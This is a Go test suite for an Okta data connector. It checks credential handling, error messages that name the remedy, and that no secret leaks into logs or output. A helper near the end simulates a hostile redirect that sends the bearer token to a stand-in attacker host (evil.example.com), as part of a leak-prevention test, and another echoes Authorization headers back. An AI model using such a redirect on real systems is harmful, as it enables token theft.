package source_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"source-okta/internal/oktasim"
	"source-okta/source"
	"source-okta/streams"
)

type keyPair struct {
	pem    string
	public jose.JSONWebKey
}

func newKeyPair(t *testing.T) keyPair {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NoError(t, err)
	der, err := x509.MarshalPKCS8PrivateKey(key)
	require.NoError(t, err)
	block := pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})
	return keyPair{string(block), jose.JSONWebKey{Key: key.Public(), KeyID: "kid-1"}}
}

const (
	serviceID = "0oaserviceapp123456x"
	webID     = "0oawebapplication12x"
	webSecret = "web-secret-0123456789abcdef"
)

func serviceCredentials(key keyPair, scope string) string {
	k, _ := json.Marshal(key.pem)
	return fmt.Sprintf(`{"auth_type":"oauth2.0_private_key","client_id":%q,"key_id":"kid-1","private_key":%s,"scope":%q}`, serviceID, k, scope)
}

func webCredentials(token string) string {
	return fmt.Sprintf(`{"auth_type":"oauth2.0","client_id":%q,"client_secret":%q,"refresh_token":%q}`, webID, webSecret, token)
}

// withApps is an org with a service app, which wants DPoP, and a web app, which rotates its refresh tokens.
func withApps(key keyPair, change func(*oktasim.OAuthApp)) oktasim.Config {
	app := oktasim.OAuthApp{ClientID: serviceID, Service: true, Keys: []jose.JSONWebKey{key.public}, DPoP: oktasim.DPoPRequired}
	if change != nil {
		change(&app)
	}
	return oktasim.Config{
		Seed: 3, Users: 700, Groups: 60, Apps: 10, Events: 6_000, Devices: 50, Latency: 200 * time.Millisecond,
		OAuth: oktasim.OAuth{
			TokenLife: 5 * time.Second, NonceLife: 3 * time.Second, ResourceNonce: true, RefreshGrace: -1,
			Apps: []oktasim.OAuthApp{app, {ClientID: webID, Secret: webSecret, Rotate: true}},
		},
	}
}

func TestEachKindOfCredentialsReadsAnOrgWithTokensThatLiveFiveSeconds(t *testing.T) {
	key := newKeyPair(t)
	for kind, credentials := range map[string]func(*oktasim.Org) string{
		"api_token":            func(*oktasim.Org) string { return "" },
		"oauth2.0_private_key": func(*oktasim.Org) string { return serviceCredentials(key, "") },
		"oauth2.0":             func(o *oktasim.Org) string { return webCredentials(o.NewRefreshToken(webID)) },
	} {
		t.Run(kind, func(t *testing.T) {
			inBubble(t, withApps(key, nil), func(t *testing.T, org *oktasim.Org) {
				p := simRead{credentials: credentials(org)}.run(t, org)
				requireGood(t, p)
				for _, s := range streams.All() {
					if s.Human && kind == "oauth2.0_private_key" {
						assert.Zero(t, p.count(s.Name), "a service app has no user")
						continue
					}
					requireOnce(t, p, org, s.Name)
				}
				tokens := 0
				for _, n := range org.OAuthStats().Grants {
					tokens += n
				}
				if kind == "oauth2.0" {
					assert.Len(t, p.control, tokens, "every rotated refresh token is handed to Airbyte")
					last := p.control[len(p.control)-1]
					assert.Equal(t, "acme.okta.com", last.Get("domain").Str, "with the whole config")
					q := simRead{credentials: last.Get("credentials").Raw, streams: only(streams.UserTypes)}.run(t, org)
					requireGood(t, q)
				}
				if kind != "api_token" {
					assert.Greater(t, tokens, 3, "tokens were renewed on the way")
				}
			})
		})
	}
}

func TestRefusedCredentialsEndInASentenceThatNamesTheRemedy(t *testing.T) {
	key, other := newKeyPair(t), newKeyPair(t)
	for name, row := range map[string]struct {
		change      func(*oktasim.OAuthApp)
		credentials func(*oktasim.Org) string
		says        []string
		streams     []*streams.Stream
	}{
		"a wrong key": {
			credentials: func(*oktasim.Org) string { return serviceCredentials(other, "") },
			says:        []string{"invalid_client", "credentials.client_id, credentials.key_id, credentials.private_key"},
		},
		"a wrong client": {
			credentials: func(*oktasim.Org) string {
				return strings.Replace(serviceCredentials(key, ""), serviceID, "0oanobody", 1)
			},
			says: []string{"invalid_client", "credentials.client_id"},
		},
		"no key at all": {
			credentials: func(*oktasim.Org) string {
				return `{"auth_type":"oauth2.0_private_key","client_id":"0oa","key_id":"k","private_key":"not a key"}`
			},
			says: []string{"private_key"},
		},
		"a missing scope": {
			change:      func(a *oktasim.OAuthApp) { a.Scopes = []string{"okta.groups.read"} },
			credentials: func(*oktasim.Org) string { return serviceCredentials(key, "") },
			says:        []string{"okta.users.read", "Okta API Scopes"},
			streams:     only(streams.Users, streams.Groups),
		},
		"a missing role": {
			change:      func(a *oktasim.OAuthApp) { a.NoRole = true },
			credentials: func(*oktasim.Org) string { return serviceCredentials(key, "") },
			says:        []string{"admin role"},
		},
		"a missing role, where users are not asked": {
			change:      func(a *oktasim.OAuthApp) { a.NoRole = true },
			credentials: func(*oktasim.Org) string { return serviceCredentials(key, "okta.users.read okta.apps.read") },
			says:        []string{"admin role"},
			streams:     only(streams.Applications),
		},
		"a revoked refresh token": {
			credentials: func(o *oktasim.Org) string {
				token := o.NewRefreshToken(webID)
				o.RevokeRefreshTokens(webID)
				return webCredentials(token)
			},
			says: []string{"invalid_grant", "credentials.refresh_token"},
		},
		"a revoked API token": {
			credentials: func(*oktasim.Org) string {
				return `{"auth_type":"api_token","api_token":"00revokedrevokedrevokedrevokedrevoked"}`
			},
			says: []string{"API token", "new token"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			if row.streams == nil {
				row.streams = only(streams.Users)
			}
			inBubble(t, withApps(key, row.change), func(t *testing.T, org *oktasim.Org) {
				p := simRead{credentials: row.credentials(org), streams: row.streams}.run(t, org)
				assert.Equal(t, 1, p.code)
				require.Len(t, p.errors, 1)
				assert.Equal(t, "config_error", p.errors[0].Get("failure_type").Str)
				for _, s := range row.says {
					assert.Contains(t, p.errors[0].Get("message").Str, s)
				}
				if len(row.streams) > 1 {
					assert.NotZero(t, p.count(row.streams[1].Name), "the streams that are permitted are read")
				}
			})
		})
	}
}

func TestAReusedRefreshTokenSaysSo(t *testing.T) {
	inBubble(t, withApps(newKeyPair(t), nil), func(t *testing.T, org *oktasim.Org) {
		used := webCredentials(org.NewRefreshToken(webID))
		requireGood(t, simRead{credentials: used, streams: only(streams.UserTypes)}.run(t, org))
		p := simRead{credentials: used, streams: only(streams.UserTypes)}.run(t, org)
		assert.Equal(t, 1, p.code)
		require.Len(t, p.errors, 1)
		assert.Contains(t, p.errors[0].Get("message").Str, "credentials.refresh_token")
		assert.Equal(t, 1, org.OAuthStats().FamiliesRevoked)
	})
}

func TestCheckDiagnosesEachFamily(t *testing.T) {
	key := newKeyPair(t)
	synctest.Test(t, func(t *testing.T) {
		cfg := withApps(key, func(a *oktasim.OAuthApp) { a.Scopes = []string{"okta.users.read", "okta.logs.read", "okta.apps.read"} })
		cfg.RecordRequests = true
		cfg.Deny = []oktasim.Deny{{Path: "/api/v1/apps", Kind: oktasim.DenyRole}}
		org := oktasim.New(cfg)
		r := runWith(t, org, map[string]string{
			"c.json": `{"domain":"acme","stream_set":"core","credentials":` + serviceCredentials(key, "") + `}`,
		}, nil, "check", "--config", "c.json")
		assert.Zero(t, r.code)
		assert.Equal(t, "SUCCEEDED", r.of("CONNECTION_STATUS")[0].Get("connectionStatus.status").Str)
		var warnings []string
		for _, l := range r.of("LOG") {
			if l.Get("log.level").Str == "WARN" {
				warnings = append(warnings, l.Get("log.message").Str)
			}
		}
		text := strings.Join(warnings, "\n")
		assert.Contains(t, text, "groups: the scope okta.groups.read was not granted")
		assert.Regexp(t, `application_groups, application_users, applications: .* admin role`, text)
		assert.NotContains(t, text, "users: ")
		assert.LessOrEqual(t, len(org.Requests()), 12)
	})
}

func TestCheckNeverWaitsForAWindow(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		limits := oktasim.DefaultLimits()
		for b := range limits {
			limits[b] = 1
		}
		org := oktasim.New(oktasim.Config{Users: 5, Limits: limits, OtherShare: 100})
		began := time.Now()
		r := runWith(t, org, map[string]string{"c.json": `{"domain":"acme","credentials":{"auth_type":"api_token","api_token":"` + oktasim.DefaultToken + `"}}`}, nil, "check", "--config", "c.json")
		assert.Less(t, time.Since(began), 20*time.Second)
		assert.Len(t, r.of("CONNECTION_STATUS"), 1)
	})
}

// TestNoSecretIsEverShown plants secrets in the config and in what Okta sends back, lets everything go wrong, and looks
// for them in all that comes out.
func TestNoSecretIsEverShown(t *testing.T) {
	key := newKeyPair(t)
	body := strings.Split(key.pem, "\n")[1]
	for name, breaks := range map[string]func(req *http.Request) *http.Response{
		"401": func(req *http.Request) *http.Response { return failureOf(req, 401, "E0000011") },
		"403": func(req *http.Request) *http.Response { return echo(req, 403) },
		"400": func(req *http.Request) *http.Response { return echo(req, 400) },
		"404": func(req *http.Request) *http.Response { return echo(req, 404) },
		"302": redirect,
		"503": func(req *http.Request) *http.Response { return echo(req, 503) },
		"HTML": func(req *http.Request) *http.Response {
			return answer(req, 200, "<html>"+req.Header.Get("Authorization"))
		},
		"drop": func(*http.Request) *http.Response { return nil },
	} {
		for _, at := range []string{"/.well-known", "/oauth2/", "/api/v1/"} {
			t.Run(name+" at "+at, func(t *testing.T) {
				synctest.Test(t, func(t *testing.T) {
					org := oktasim.New(withApps(key, nil))
					refresh := org.NewRefreshToken(webID)
					for _, credentials := range []string{serviceCredentials(key, ""), webCredentials(refresh), `{"auth_type":"api_token","api_token":"` + oktasim.DefaultToken + `"}`} {
						var mu sync.Mutex
						var secrets []string
						transport := roundTrip(func(req *http.Request) (*http.Response, error) {
							if a := req.Header.Get("Authorization"); a != "" {
								_, token, _ := strings.Cut(a, " ")
								mu.Lock()
								secrets = append(secrets, token)
								mu.Unlock()
							}
							if strings.HasPrefix(req.URL.Path, at) {
								resp := breaks(req)
								if resp == nil {
									return nil, fmt.Errorf("dropped while sending %s", req.Header.Get("Authorization"))
								}
								return resp, nil
							}
							return org.RoundTrip(req)
						})
						secrets = append(secrets, webSecret, refresh, oktasim.DefaultToken, body)
						for _, verb := range []string{"check", "read"} {
							var out, errOut bytes.Buffer
							files := map[string]string{
								"c.json": `{"domain":"acme","stream_set":"core","credentials":` + credentials + `}`,
								"k.json": configuredCatalog("incremental", streams.UserTypes, streams.Users),
							}
							source.Run(t.Context(), source.Env{
								Args: []string{verb, "--debug", "--config", "c.json", "--catalog", "k.json"}, Stdout: &out, Stderr: &errOut, Transport: transport,
								Getenv: func(string) string { return "" }, ReadFile: func(n string) ([]byte, error) { return []byte(files[n]), nil },
							})
							for line := range bytes.Lines(append(out.Bytes(), errOut.Bytes()...)) {
								if bytes.HasPrefix(line, []byte(`{"type":"CONTROL"`)) || bytes.HasPrefix(line, recordPrefix) {
									continue
								}
								for _, s := range secrets {
									assert.NotContains(t, string(line), s)
								}
							}
						}
					}
				})
			})
		}
	}
}

type roundTrip func(*http.Request) (*http.Response, error)

func (f roundTrip) RoundTrip(req *http.Request) (*http.Response, error) { return f(req) }

// echo is an error that repeats what was sent, as careless servers do.
func echo(req *http.Request, status int) *http.Response {
	b, _ := json.Marshal(req.Header.Get("Authorization") + " " + req.URL.String())
	return answer(req, status, `{"errorCode":"E0000006","errorSummary":`+string(b)+`,"error":"access_denied","error_description":`+string(b)+`}`)
}

func redirect(req *http.Request) *http.Response {
	resp := answer(req, 302, "")
	_, token, _ := strings.Cut(req.Header.Get("Authorization"), " ")
	resp.Header.Set("Location", "https://evil.example.com/?token="+token)
	return resp
}
